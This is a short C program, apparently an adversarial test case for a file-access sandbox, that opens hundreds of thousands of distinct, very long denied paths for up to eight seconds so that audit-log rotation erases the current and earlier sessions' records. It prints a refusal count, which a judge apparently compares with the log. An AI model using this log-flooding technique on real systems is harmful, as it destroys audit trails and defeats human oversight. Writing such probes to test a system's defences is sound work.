// technique: flood the audit log with denied 4 KiB paths (all different) until rotation erases this session's start and the earlier sessions
#include "adv.h"
#include <time.h>
int main(void) {
	// A path of about 4000 bytes outside every root: $OUTSIDE's folder,
	// then 15 components of 250 bytes, the last one numbered.
	char base[4096], path[4096];
	snprintf(base, sizeof base, "%s", adv("OUTSIDE"));
	char *slash = strrchr(base, '/');
	if (slash) *slash = 0;
	size_t n = strlen(base);
	for (int i = 0; i < 15 && n + 252 < sizeof base - 32; i++) {
		base[n++] = '/';
		memset(base + n, 'a' + i, 250);
		n += 250;
		base[n] = 0;
	}
	struct timespec t0, t;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	long refused = 0, other = 0;
	for (long i = 0; i < 400000; i++) {
		snprintf(path, sizeof path, "%s/%ld", base, i);
		int fd = open(path, O_RDONLY);
		if (fd >= 0) { dump("flood open", fd); close(fd); other++; }
		else if (errno == EACCES || errno == EPERM || errno == ENOENT) refused++; // a denied name does not exist
		else other++;
		if ((i & 1023) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &t);
			if (t.tv_sec - t0.tv_sec >= 8) break;
		}
	}
	// The judge compares this with the denials the log holds.
	printf("refused %ld\n", refused);
	printf("other %ld (path length %zu)\n", other, strlen(path));
	fflush(stdout);
	return 0;
}
